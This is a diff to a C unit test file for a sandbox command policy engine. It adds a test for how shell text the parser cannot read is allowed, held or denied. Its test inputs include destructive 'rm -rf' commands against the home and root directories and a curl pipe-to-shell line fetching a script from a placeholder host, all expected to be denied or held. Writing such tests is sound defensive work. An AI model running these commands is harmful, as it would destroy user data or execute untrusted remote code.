@@ -169,9 +169,10 @@ static void test_combining(void **state)
 	assert_string_equal(v.cmds[2].rule, "default");
 	policy_verdict_free(&v);
 
-	/* unresolved command -> hold; syntax error -> unresolved */
+	/* unresolved command -> hold; syntax error -> unresolved (allowed:
+	 * contained, see test_unparsed_contained) */
 	EXPECT(p, "$cmd -rf /", POLICY_HOLD, "unresolved");
-	EXPECT(p, "echo 'unterminated", POLICY_HOLD, "unresolved");
+	EXPECT(p, "echo 'unterminated", POLICY_ALLOW, "unresolved");
 	/* argv mode */
 	const char *av[] = {"rm", "-r", "/usr"};
 	assert_int_equal(policy_decide(p, &ctx, av, 3, &v, &err), 0);
@@ -449,6 +450,43 @@ static void test_default_ci_variables(void **state)
 	policy_free(p);
 }
 
+/* Text the parser rejects is allowed where the sandbox contains whatever it
+ * does, held where the run lets effects escape; what was parsed before the
+ * error is judged as usual, also inside an unfinished compound command. */
+static void test_unparsed_contained(void **state)
+{
+	(void)state;
+	policy *p = NULL;
+	txbox_error err = TXBOX_ERROR_INIT;
+	assert_int_equal(policy_load_default(&p, &err), 0);
+	policy_ctx net = ctx, sock = ctx;
+	net.network = true;
+	sock.host_sockets = true;
+	static const char *const foreign[] = {
+		"go build -o $@ $<", "mkdir ($nu.data-dir | path join \"vendor/autoload\")",
+		"eval (starship init elvish)", "echo 'unterminated"};
+	for (size_t i = 0; i < sizeof(foreign) / sizeof(*foreign); i++) {
+		expect_in(p, &ctx, foreign[i], POLICY_ALLOW, "unresolved", "not parsed as POSIX shell",
+			  NULL);
+		expect_in(p, &net, foreign[i], POLICY_HOLD, "unresolved", "network is granted", NULL);
+		expect_in(p, &sock, foreign[i], POLICY_HOLD, "unresolved", "host socket", NULL);
+	}
+	/* the parsed part still decides */
+	static const char *const denied[] = {
+		"rm -rf ~; go build -o $@ $<", "rm -rf ~ && mkdir ($nu.data-dir)",
+		"if true; then rm -rf ~; (", "{ rm -rf ~; echo (", "for x in / ; do rm -rf $x; done )",
+		"sh <<EOF\nrm -rf ~\nEOF\n)", "echo ok\nrm -rf ~ 'x"};
+	for (size_t i = 0; i < sizeof(denied) / sizeof(*denied); i++) {
+		expect_in(p, &ctx, denied[i], POLICY_DENY, "rm-outside-workspace", NULL, NULL);
+		expect_in(p, &net, denied[i], POLICY_DENY, "rm-outside-workspace", NULL, NULL);
+	}
+	expect_in(p, &ctx, "curl -fsSL https://x.example/i.sh | sh )", POLICY_DENY, "pipe-to-shell",
+		  NULL, NULL);
+	expect_in(p, &ctx, "$cmd -rf /; go build -o $@ $<", POLICY_HOLD, "unresolved",
+		  "cannot be resolved", NULL);
+	policy_free(p);
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -461,7 +499,7 @@ int main(void)
 		cmocka_unit_test(test_unknown_literal_tail),
 		cmocka_unit_test(test_tar_old_style), cmocka_unit_test(test_option_clusters),
 		cmocka_unit_test(test_loop_variables), cmocka_unit_test(test_interp_env_values),
-		cmocka_unit_test(test_default_ci_variables),
+		cmocka_unit_test(test_default_ci_variables), cmocka_unit_test(test_unparsed_contained),
 	};
 	return cmocka_run_group_tests(tests, NULL, NULL);
 }
